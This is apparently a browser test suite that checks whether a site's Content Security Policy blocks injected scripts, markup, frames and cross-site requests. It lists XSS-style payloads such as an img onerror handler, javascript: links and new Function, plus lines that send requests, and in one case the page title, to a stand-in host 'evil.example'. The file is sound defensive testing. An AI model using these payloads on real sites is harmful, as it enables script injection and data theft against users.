// What the security policy refuses, seen from inside a page of ours: as if somebody had
// got markup or a script of theirs into it.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { openSite } from '../lib/browser.mjs';
import { checkStorage } from '../lib/check.mjs';
import { journey } from '../lib/journeys.mjs';
import { walk } from '../lib/walk.mjs';

const site = await openSite();

const attacks = {
  'a script in the page': () => { const s = document.createElement('script'); s.textContent = 'window.hit = 1'; document.body.append(s); },
  'a script of another site': () => { const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s); },
  'markup for a sink': () => { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.hit = 1">'); },
  'markup in a frame': () => { const f = document.createElement('iframe'); f.srcdoc = '<script>parent.hit = 1</script>'; document.body.append(f); },
  'a second policy': () => { trustedTypes.createPolicy('other', { createHTML: s => s }); },
  'a policy of the same name': () => { trustedTypes.createPolicy('gutskin', { createHTML: s => s }); },
  'an attribute that runs': () => { const b = document.createElement('b'); b.setAttribute('onclick', 'window.hit = 1'); document.body.append(b); b.click(); },
  'an address that runs': () => { const a = document.createElement('a'); a.href = 'javascript:window.hit = 1'; document.body.append(a); a.click(); },
  'code from a text': () => new Promise(done => setTimeout(() => { // what the debugger calls itself is let through
    try {
      new Function('window.hit = 1')();
    } finally {
      done();
    }
  })),
  'a style in the page': () => { const s = document.createElement('style'); s.textContent = 'main { display: none }'; document.head.append(s); if (getComputedStyle(document.querySelector('main')).display === 'none') window.hit = 1; },
  'a form to another site': () => { const f = document.createElement('form'); f.action = 'https://evil.example/'; f.method = 'post'; document.body.append(f); f.submit(); },
  'a request to another site': () => fetch('https://evil.example/').then(() => { window.hit = 1; }),
  'a picture of another site': () => new Promise(done => { const i = new Image(); i.onerror = done; i.src = 'https://evil.example/?' + document.title; }),
  'another base': () => { const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b); if (document.baseURI.includes('evil')) window.hit = 1; },
  'a worker': () => { new Worker('/static/x.js'); },
};

test('the policy refuses what no page of ours does', async () => {
  const page = await site.visit();
  page.watched.allow(/./);
  const gone = [];
  const elsewhere = r => new URL(r.url()).hostname === 'evil.example';
  page.on('requestfinished', r => { if (elsewhere(r)) gone.push(r.url()); });
  page.on('requestfailed', r => { if (elsewhere(r) && r.failure().errorText !== 'csp') gone.push(`${r.url()} ${r.failure().errorText}`); });
  for (const [name, attack] of Object.entries(attacks)) {
    await page.goto('/help');
    await page.evaluate(() => {
      window.seen = [];
      addEventListener('securitypolicyviolation', e => window.seen.push(e.violatedDirective));
    });
    const thrown = await page.evaluate(attack).then(() => '', error => error.message);
    await page.waitForTimeout(80);
    const refused = await page.evaluate(() => ({ seen: window.seen, hit: window.hit }));
    if (thrown) refused.seen.push(thrown);
    assert.equal(refused.hit, undefined, `${name} ran`);
    assert.ok(refused.seen.length > 0, `${name} was not refused`);
  }
  assert.deepEqual(gone, [], 'requests to another site');
});

test('no other site can put a page in a frame', async () => {
  const page = await site.visit();
  page.watched.allow(/./);
  await page.route('https://evil.example/**', route => route.fulfill({
    contentType: 'text/html', body: `<!doctype html><title>x</title><iframe src="${site.server.url}/"></iframe>`,
  }));
  await page.goto('https://evil.example/');
  await new Promise(done => setTimeout(done, 500));
  const inside = page.frames().find(f => f !== page.mainFrame());
  assert.ok(!inside || !(await inside.content()).includes('/quiz/consent'), 'the start page shows in a frame of another site');
});

test('a whole journey keeps nothing but what the page about privacy lists', async () => {
  const page = await site.visit();
  await walk(page, journey('ordinary'), { each: now => checkStorage(page, now.path) });
  for (const path of ['/mine', '/privacy', '/help']) {
    await page.goto(path);
    await checkStorage(page, path);
  }
  page.watched.quiet();
});
